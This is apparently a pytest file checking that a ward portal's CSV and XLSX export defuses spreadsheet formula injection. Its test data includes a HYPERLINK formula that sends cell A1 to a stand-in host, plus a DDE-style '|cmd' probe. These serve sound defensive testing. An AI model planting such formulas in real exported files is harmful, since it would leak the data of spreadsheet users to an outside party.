"""Text stays text, whatever it begins with."""

import csv
import io
from zipfile import ZipFile

import pytest
from openpyxl import load_workbook

from wardportal.spreadsheets import Sheet, safe_csv_text, write_csv, write_xlsx

ATTACK = '=HYPERLINK("http://vi.du/?"&A1,"x")'
SHEET = Sheet(
    title="Biểu II.06a",
    head=["Lĩnh vực", "Số"],
    rows=[[ATTACK, 1240], ["Hộ tịch", 0]],
    total=["Tổng", 1240],
)


def cells(content, sheet=0):
    worksheet = load_workbook(io.BytesIO(content)).worksheets[sheet]
    return [[cell.value for cell in row] for row in worksheet.iter_rows()]


@pytest.mark.parametrize(
    "text",
    [
        "=1+1",
        "+1+1",
        "-1+1|cmd",
        "@SUM(A1)",
        "\t=1",
        "\r=1",
        "\n=1",
        "＝1",
        "＋1a",
        "－1a",
        "＠a",
        "  =1+1",
    ],
)
def test_a_text_that_a_program_would_run_gets_an_apostrophe(text):
    assert safe_csv_text(text) == f"'{text}"


@pytest.mark.parametrize(
    "text", ["+84 912 000 111", "-12", "-1.234", "Hộ tịch", "a=1", "", "0912000111"]
)
def test_phones_numbers_and_plain_words_stay_unchanged(text):
    assert safe_csv_text(text) == text


def test_control_characters_are_dropped():
    assert safe_csv_text("a\x00b\x1bc") == "abc"


def test_csv_has_each_table_under_its_title():
    content = write_csv([SHEET, Sheet("Ghi chú", ["Tên"], [["a"]])])
    assert content.startswith(b"\xef\xbb\xbf")
    assert list(csv.reader(io.StringIO(content.decode("utf-8-sig")))) == [
        ["Biểu II.06a"],
        ["Lĩnh vực", "Số"],
        [f"'{ATTACK}", "1240"],
        ["Hộ tịch", "0"],
        ["Tổng", "1240"],
        [],
        ["Ghi chú"],
        ["Tên"],
        ["a"],
    ]


def test_xlsx_has_figures_as_numbers_and_text_as_text():
    content = write_xlsx([SHEET])
    assert cells(content) == [
        ["Lĩnh vực", "Số"],
        [ATTACK, 1240],
        ["Hộ tịch", 0],
        ["Tổng", 1240],
    ]
    workbook = load_workbook(io.BytesIO(content))
    assert workbook.sheetnames == ["Biểu II.06a"]
    attack = workbook.active["A2"]
    assert (attack.data_type, attack.quotePrefix) == ("s", True)


def test_xlsx_holds_no_formula_at_all():
    with ZipFile(io.BytesIO(write_xlsx([SHEET]))) as archive:
        sheet = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet


def test_a_text_with_control_characters_does_not_break_the_workbook():
    content = write_xlsx([Sheet("a", ["b"], [["c\x00\x0bd"]])])
    assert cells(content) == [["b"], ["cd"]]


def test_a_long_title_is_cut_to_what_excel_takes():
    content = write_xlsx([Sheet("a" * 40, ["b"], [])])
    assert load_workbook(io.BytesIO(content)).sheetnames == ["a" * 31]
